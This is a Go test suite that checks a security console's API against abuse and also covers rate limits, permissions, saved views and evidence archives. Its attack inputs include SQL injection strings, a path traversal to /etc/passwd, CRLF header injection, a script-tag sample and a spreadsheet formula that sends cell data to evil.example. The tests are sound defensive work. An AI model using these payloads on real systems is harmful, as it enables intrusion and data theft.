package app

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/yagura-sec/yagura"
	"github.com/yagura-sec/yagura/api"
	"github.com/yagura-sec/yagura/store"
)

// TestAbuse are the classes of attacks of OWASP that an API meets, each refused.
func TestAbuse(t *testing.T) {
	h := newConsoleHouse(t)
	c := h.badgeOf("admin", yagura.Binding{Role: yagura.RoleAdmin})
	changes := "/issues/" + h.mine.ID + "/changes"
	deep := strings.Repeat(`{"a":`, 5000) + "1" + strings.Repeat("}", 5000)
	for _, x := range []struct {
		name, method, path, body string
		want                     int
		code                     api.Code
		header                   []string
	}{
		{"mass assignment", "POST", changes, `{"what":"comment","text":"x","who":"yagura"}`, 400, api.CodeBadRequest, nil},
		{"mass assignment of a user", "PATCH", "/me", `{"bindings":[{"role":"admin"}]}`, 400, api.CodeBadRequest, nil},
		{"a key in another case", "POST", changes, `{"What":"comment"}`, 400, api.CodeBadRequest, nil},
		{"a key twice", "POST", changes, `{"what":"comment","what":"close"}`, 400, api.CodeBadRequest, nil},
		{"deep JSON", "POST", changes, deep, 400, api.CodeBadRequest, nil},
		{"a large body", "POST", changes, `{"what":"comment","text":"` + strings.Repeat("x", 1<<20) + `"}`, 413, api.CodeTooLarge, nil},
		{"a form", "POST", changes, `what=comment`, 415, api.CodeMedia, []string{"Content-Type", "application/x-www-form-urlencoded"}},
		{"a text", "POST", changes, `{"what":"comment"}`, 415, api.CodeMedia, []string{"Content-Type", "text/plain"}},
		{"a compressed body", "POST", changes, `{"what":"comment"}`, 415, api.CodeMedia, []string{"Content-Encoding", "gzip"}},
		{"a body where none is", "DELETE", "/views/x", `{"id":"y"}`, 400, api.CodeBadRequest, nil},
		{"an unknown parameter", "GET", "/issues?admin=1", "", 400, api.CodeBadRequest, nil},
		{"a parameter twice", "GET", "/issues?q=a&q=b", "", 400, api.CodeBadRequest, nil},
		{"a semicolon", "GET", "/issues?q=a;limit=1", "", 400, api.CodeBadRequest, nil},
		{"NUL", "GET", "/issues/%00", "", 400, api.CodeBadRequest, nil},
		{"no UTF-8", "GET", "/issues/%ff", "", 400, api.CodeBadRequest, nil},
		{"too many rows", "GET", "/issues?limit=100000", "", 400, api.CodeBadRequest, nil},
		{"an endless query", "GET", "/issues?q=" + strings.Repeat("a", 5000), "", 400, api.CodeBadQuery, nil},
		{"SQL in a query", "GET", "/issues?q=" + `account:"x'%20OR%201=1%20--"`, "", 200, "", nil},
		{"SQL in an id", "GET", "/issues/x'%20OR%20'1'='1", "", 404, api.CodeNotFound, nil},
		{"a sort that is SQL", "GET", "/issues?sort=updated;drop", "", 400, api.CodeBadRequest, nil},
		{"a cursor that was not given out", "GET", "/issues?cursor=AAAA", "", 400, api.CodeBadRequest, nil},
		{"path traversal", "GET", "/issues/..%2f..%2fetc%2fpasswd", "", 404, api.CodeNotFound, nil},
		{"another method", "PUT", "/issues/" + h.mine.ID, `{}`, 405, api.CodeMethod, nil},
		{"TRACE", "TRACE", "/session", "", 405, api.CodeMethod, nil},
		{"an override of the method", "GET", "/issues/" + h.mine.ID, "", 200, "", []string{"X-HTTP-Method-Override", "DELETE"}},
		{"an override by POST", "POST", "/issues/" + h.mine.ID + "?_method=DELETE", "", 405, api.CodeMethod, []string{"X-HTTP-Method", "DELETE"}},
		{"a path that is not there", "GET", "/admin", "", 404, api.CodeNotFound, nil},
		{"a change for sinks", "POST", changes, `{"what":"answer"}`, 400, api.CodeBadRequest, nil},
	} {
		t.Run(x.name, func(t *testing.T) {
			resp, body := c.do(x.method, x.path, x.body, x.header...)
			var p api.Problem
			_ = json.Unmarshal(body, &p)
			if resp.StatusCode != x.want || p.Code != x.code {
				t.Errorf("%d %.300s, want %d %s", resp.StatusCode, body, x.want, x.code)
			}
			for name, want := range map[string]string{"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'"} {
				if resp.Header.Get(name) != want {
					t.Errorf("%s: %q", name, resp.Header.Get(name))
				}
			}
			if resp.Header.Get("X-Request-Id") == "" || resp.Header.Get("Access-Control-Allow-Origin") != "" {
				t.Errorf("%v", resp.Header)
			}
		})
	}
	// What a caller writes stands in no header.
	resp, _ := c.do("GET", "/issues/"+h.mine.ID+"/evidence?lang=en%0d%0aX-Evil:1", "")
	if resp.Header.Get("X-Evil") != "" {
		t.Error("a header was injected")
	}
	resp, _ = c.do("GET", "/session", "", "X-Request-Id", "mine")
	if resp.Header.Get("X-Request-Id") == "mine" {
		t.Error("the caller named the request")
	}
}

// TestRates: an identity that asks too often waits, and others do not.
func TestRates(t *testing.T) {
	h := newConsoleHouse(t)
	a, err := api.New(api.Options{Gate: h.gate, Parts: h.c.parts(), Now: h.now, NewID: NewID(h.now), Rates: api.Rates{Identity: api.Rate{Burst: 3, Every: 1 << 40}, Address: api.NoRates.Address,
		SignIn: api.Rate{Burst: 2, Every: 1 << 40}}})
	if err != nil {
		t.Fatal(err)
	}
	h.server.Config.Handler = a
	mary, bob := h.badgeOf("mary", yagura.Binding{Role: yagura.RoleViewer}), h.badgeOf("bob", yagura.Binding{Role: yagura.RoleViewer})
	for range 3 {
		mary.call(200, "GET", "/session", "", nil)
	}
	var p api.Problem
	resp := mary.call(429, "GET", "/session", "", &p)
	if resp.Header.Get("Retry-After") == "" {
		t.Error("nobody says how long to wait")
	}
	bob.call(200, "GET", "/session", "", nil)
	for range 2 {
		h.stranger().call(401, "POST", "/sign-in", `{"name":"x","password":"y"}`, nil)
	}
	h.stranger().call(429, "POST", "/sign-in", `{"name":"x","password":"y"}`, &p)
}

// TestHostileText: what a log says is data in every form that it is shown in.
func TestHostileText(t *testing.T) {
	h := newConsoleHouse(t)
	c := h.badgeOf("admin", yagura.Binding{Role: yagura.RoleAdmin})
	evil := `=HYPERLINK("http://evil.example/?"&A1)`
	c.call(200, "POST", "/issues/"+h.mine.ID+"/changes", `{"what":"comment","text":`+fmt.Sprintf("%q", evil)+`}`, nil)
	c.call(200, "POST", "/issues/"+h.mine.ID+"/changes", `{"what":"comment","text":"<script>alert(1)</script>"}`, nil)
	_, body := c.do("GET", "/issues/"+h.mine.ID+"/timeline?format=csv", "")
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows[1:] {
		for _, cell := range row {
			if strings.HasPrefix(strings.TrimSpace(cell), "=") {
				t.Errorf("a formula: %q", cell)
			}
			found = found || strings.HasSuffix(cell, evil)
		}
	}
	if !found {
		t.Errorf("the text is not there: %s", body)
	}
	_, body = c.do("GET", "/issues/"+h.mine.ID+"/timeline", "")
	if bytes.Contains(body, []byte("<script>")) {
		t.Error("JSON holds a tag as it is")
	}
}

// TestViews: a view is its owner's, who needs its version to change it.
func TestViews(t *testing.T) {
	h := newConsoleHouse(t)
	mary, bob := h.badgeOf("mary", yagura.Binding{Role: yagura.RoleAnalyst}), h.badgeOf("bob", yagura.Binding{Role: yagura.RoleAnalyst})
	var v api.ViewPage
	resp := mary.call(200, "POST", "/views", `{"name":"mine","list":"issues","query":"severity:>=high"}`, &v)
	tag := resp.Header.Get("ETag")
	bob.call(404, "GET", "/views/"+v.ID, "", nil)
	bob.call(404, "DELETE", "/views/"+v.ID, "", nil)
	in := `{"name":"ours","list":"issues","query":"status:open","shared":true}`
	mary.call(428, "PUT", "/views/"+v.ID, in, nil)
	mary.call(200, "PUT", "/views/"+v.ID, in, &v, "If-Match", tag)
	mary.call(412, "PUT", "/views/"+v.ID, in, nil, "If-Match", tag)
	bob.call(200, "GET", "/views/"+v.ID, "", &v)
	if v.Mine || v.Name != "ours" {
		t.Errorf("%+v", v)
	}
	bob.call(403, "DELETE", "/views/"+v.ID, "", nil)
	var p api.Problem
	mary.call(400, "POST", "/views", `{"name":"x","list":"issues","query":"severity:>=hihg"}`, &p)
	if p.Code != api.CodeBadQuery || p.Place == nil || p.Place.Column != 12 || p.Hint == "" || p.DetailJA == "" {
		t.Errorf("%+v", p)
	}
	mary.call(200, "GET", "/views?list=issues", "", nil)
	mary.call(204, "DELETE", "/views/"+v.ID, "", nil)
	mary.call(404, "DELETE", "/views/"+v.ID, "", nil)
}

// TestChangesNeed: what a change needs is asked for each, also among many.
func TestChangesNeed(t *testing.T) {
	h := newConsoleHouse(t)
	viewer := h.badgeOf("viewer", yagura.Binding{Role: yagura.RoleViewer})
	// Works everywhere, decides at home alone.
	mixed := h.badgeOf("mixed", yagura.Binding{Role: yagura.RoleAnalyst}, yagura.Binding{Role: yagura.RoleResponder, Scope: yagura.Scope{Accounts: []string{ourAccount}}})
	for _, what := range []string{"acknowledge", "close", "reopen", "assign", "label", "unlabel", "comment", "conclude", "suppress"} {
		viewer.call(403, "POST", "/issues/"+h.mine.ID+"/changes", `{"what":"`+what+`","text":"x"}`, nil)
	}
	mixed.call(200, "POST", "/issues/"+h.theirs.ID+"/changes", `{"what":"comment","text":"x"}`, nil)
	mixed.call(404, "POST", "/issues/"+h.theirs.ID+"/changes", `{"what":"close","text":"x","verdict":"benign"}`, nil)
	var page api.IssuePage
	mixed.call(200, "GET", "/issues/"+h.theirs.ID, "", &page)
	for _, p := range page.Permissions {
		if p == yagura.PermitDecide {
			t.Error("it may decide beyond its scope")
		}
	}
	before := len(auditLines(t, h.c.db))
	var out api.Outcomes
	mixed.call(200, "POST", "/issues/changes", fmt.Sprintf(`{"ids":[%q,%q,"nothing",%q],"change":{"what":"close","text":"x","verdict":"benign","id":"c1"}}`, h.mine.ID, h.theirs.ID, h.mine.ID), &out)
	if len(out.Items) != 3 || !out.Items[0].Done || out.Items[1].Problem == nil || out.Items[1].Problem.Code != api.CodeNotFound || out.Items[2].Problem == nil {
		t.Errorf("%+v", out)
	}
	lines := auditLines(t, h.c.db)[before:]
	if len(lines) != 3 || lines[0].Outcome != "done" || lines[0].What != "issue.close" || lines[1].Outcome != "refused" || lines[1].On != "issue/"+h.theirs.ID {
		t.Errorf("%+v", lines)
	}
	h.update(func(ctx context.Context, tx *store.Tx) error {
		is, err := tx.Issue(ctx, h.theirs.ID, yagura.LockNone)
		if err == nil && is.Status == yagura.StatusClosed {
			err = fmt.Errorf("it was closed all the same")
		}
		return err
	})
}

// TestEvidence: the archive holds what it says, and every sum is right.
func TestEvidence(t *testing.T) {
	s := newStand(t)
	s.start()
	record := trail("2026-03-02T12:00:00Z", "cloudtrail.amazonaws.com", "StopLogging", `{"name":"監査"}`)
	s.post(record)
	id := s.issue("CloudTrail logging disabled").ID
	h, err := (&Books{DB: s.serve.db, cfg: s.cfg, inbox: s.serve.inbox(), accounts: s.serve.registry.load()}).API("cli:test", "test", s.serve.o.Now)
	if err != nil {
		t.Fatal(err)
	}
	c := &caller{t: t, client: &http.Client{Transport: Beside(h)}, base: "http://beside" + api.Prefix}
	var events api.List[api.EventMatch]
	c.call(200, "GET", "/issues/"+id+"/events", "", &events)
	if len(events.Items) != 1 || events.Items[0].Raw != record || events.Items[0].Missing != "" {
		t.Fatalf("%+v", events)
	}
	m, said := events.Items[0], 0
	for _, x := range m.Clauses {
		if x.Actual == "" {
			continue
		}
		if x.End == 0 || !strings.Contains(m.Raw[x.Start:x.End], x.Actual) {
			t.Errorf("%+v: %q", x, m.Raw[x.Start:x.End])
		}
		said++
	}
	if said < 2 {
		t.Errorf("%+v", m.Clauses)
	}
	_, data := c.do("GET", "/issues/"+id+"/evidence", "")
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if files[f.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
	}
	var manifest struct {
		Issue string
		Files []struct {
			Name, SHA256 string
			Size         int
		}
	}
	if err := json.Unmarshal(files["manifest.json"], &manifest); err != nil || manifest.Issue != id || len(manifest.Files) != 5 || len(files) != 6 {
		t.Fatalf("%v %+v %d", err, manifest, len(files))
	}
	for _, f := range manifest.Files {
		sum := sha256.Sum256(files[f.Name])
		if hex.EncodeToString(sum[:]) != f.SHA256 || f.Size != len(files[f.Name]) {
			t.Errorf("%s is not as the manifest says", f.Name)
		}
	}
	var line evidenceEvent
	if err := json.Unmarshal(files["events.jsonl"], &line); err != nil || line.Raw != record {
		t.Errorf("%v %q", err, line.Raw)
	}
	sum := sha256.Sum256([]byte(record))
	if line.SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("%+v", line)
	}
}

// TestSearch: whatever is pasted finds what it names, within reach.
func TestSearch(t *testing.T) {
	h := newConsoleHouse(t)
	c := h.badgeOf("part", yagura.Binding{Role: yagura.RoleAnalyst, Scope: yagura.Scope{Accounts: []string{ourAccount}}})
	c.call(200, "POST", "/views", `{"name":"朝の確認","list":"issues","query":"status:open"}`, nil)
	for text, want := range map[string]string{
		"alice": "entity /entities/user/alice", "198.51.100.7": "entity /entities/ip/198.51.100.7", h.mine.ID[:12]: "issue /issues/" + h.mine.ID,
		"Trail%20stopped": "issue /issues/" + h.mine.ID, "朝の": "view /issues?q=status%3Aopen", "ledg": "page /ledger", "台帳": "page /ledger",
	} {
		var hits api.Hits
		c.call(200, "GET", "/search?q="+text, "", &hits)
		found := false
		for _, x := range hits.Items {
			found = found || x.Kind+" "+x.HRef == want
		}
		if !found {
			t.Errorf("%s: %+v, want %s", text, hits.Items, want)
		}
	}
	var hits api.Hits
	for _, text := range []string{"foreign", theirAccount, h.theirs.ID, "audit"} {
		if c.call(200, "GET", "/search?q="+text, "", &hits); len(hits.Items) != 0 {
			t.Errorf("%s: %+v", text, hits.Items)
		}
	}
}
